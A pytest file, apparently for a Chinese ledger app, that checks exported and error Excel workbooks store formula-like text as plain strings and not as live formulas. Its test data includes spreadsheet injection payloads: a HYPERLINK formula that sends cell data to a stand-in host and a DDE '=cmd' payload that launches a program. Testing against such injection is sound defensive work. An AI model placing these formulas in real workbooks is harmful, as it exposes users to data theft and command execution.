"""Text that looks like a formula is written as text in every workbook the app makes (issue 16, finding 6).

A 备注 of `=HYPERLINK(…)` typed by a clerk, or a cell of a file being reported back in the error workbook,
must never become a live formula (or an error value such as #N/A): every such cell is a string cell, and an
export imported again keeps the text exactly.
"""

from __future__ import annotations

import datetime as dt
import zipfile

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jzair_desktop.domain.ledgers import ledger
from jzair_desktop.exchange.excel_template import LedgerBook
from jzair_desktop.exchange.xlsx_common import set_text
from jzair_desktop.services import excel as excel_service
from jzair_desktop.services.actor import BUILTIN_ADMIN
from jzair_desktop.services.ledgers import create_record, list_records
from tests.exchange import samples

TODAY = dt.date(2021, 3, 31)
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?d="&A1,"点击查看")',
    "=1+1",
    "+1+2",
    "-2+3",
    "@SUM(A1:A3)",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "#DIV/0!",
    "=",
)


def _sheet_xml(path, sheet="xl/worksheets/sheet1.xml") -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(sheet).decode("utf-8")


def _string_cells(path, sheet_index: int = 0) -> dict[str, str]:
    """{value: data_type} of every string-like cell of a sheet, read back with openpyxl."""
    wb = openpyxl.load_workbook(path)
    ws = wb.worksheets[sheet_index]
    return {c.value: c.data_type for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def _heating_record(i: int, remark: str, householder: str = "王建国") -> dict:
    row = samples.heating_row(i)
    return {
        "unit_code": "榆次区", "township": row["乡（镇）"], "village": row["村（社区）"],
        "householder": householder, "id_number": samples.make_id(i), "method": "气代煤", "status": "未开工",
        "remarks": remark,
    }


def test_export_writes_formula_like_text_as_text_and_round_trips(db, tmp_path):
    for i, text in enumerate(HOSTILE, start=1):
        create_record(db, "heating", _heating_record(i, text, householder=text[:40]), actor=BUILTIN_ADMIN,
                      today=TODAY)
    out = tmp_path / "导出.xlsx"
    excel_service.export_ledger(db, "heating", out, actor=BUILTIN_ADMIN)
    xml = _sheet_xml(out)
    assert "<f>" not in xml and "<f " not in xml
    assert 't="e"' not in xml
    types = _string_cells(out)
    for text in HOSTILE:
        assert types[text] == "s", text
    report = excel_service.import_ledger(db, "heating", out, "榆次区", actor=BUILTIN_ADMIN, today=TODAY)
    assert (report.new, report.changed, report.unchanged) == (0, 0, len(HOSTILE))
    remarks = sorted(r.values["remarks"] for r in list_records(db, "heating", limit=100))
    assert remarks == sorted(HOSTILE)


def test_error_workbook_writes_the_files_text_as_text(db, tmp_path):
    rows = samples.clean_rows("heating", len(HOSTILE), start=1)
    for row, text in zip(rows, HOSTILE, strict=True):
        row["备注"] = text
        row["身份证号"] = "123"  # every row has an error, so every row is reported back
    src = tmp_path / "源.xlsx"
    samples.write_dict_rows(src, rows)
    wb = openpyxl.load_workbook(src)  # the source holds the texts as text, as a clerk's file would
    ws = wb.active
    col = [c.value for c in ws[1]].index("备注") + 1
    for r, text in enumerate(HOSTILE, start=2):
        set_text(ws.cell(r, col), text)
    wb.save(src)
    data = excel_service.read_import_file(src, "heating")
    plan = excel_service.check_import(db, data, "榆次区", actor=BUILTIN_ADMIN, today=TODAY)
    err = excel_service.write_error_file(plan)
    assert err is not None
    xml = _sheet_xml(err)
    assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
    types = _string_cells(err)
    for text in HOSTILE:
        assert types[text] == "s", text


_FORMULA_LIKE = st.builds(
    lambda head, body: head + body,
    st.sampled_from(["=", "+", "-", "@", "#", "=+", "=-", "＝"]),
    st.lists(
        st.sampled_from(list("=+-@#()!,\"'|:;A1$&%^*/ .") + ["SUM", "HYPERLINK", "N/A", "cmd", "晋中"]),
        max_size=15,
    ).map("".join),
)


@pytest.mark.slow
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(_FORMULA_LIKE, min_size=1, max_size=10))
def test_any_formula_like_text_is_written_as_text(tmp_path, texts):
    d = ledger("heating")
    book = LedgerBook(d)
    remark = d.keys.index("remarks")
    for text in texts:
        values = [None] * len(d.keys)
        values[remark] = text
        book.append(values)
    out = tmp_path / "性质.xlsx"
    book.save(out)
    assert "<f>" not in _sheet_xml(out)
    wb = openpyxl.load_workbook(out)
    cells = [row[remark] for row in wb.worksheets[0].iter_rows(min_row=2)]
    assert [c.value for c in cells] == list(texts)
    assert all(c.data_type == "s" for c in cells)
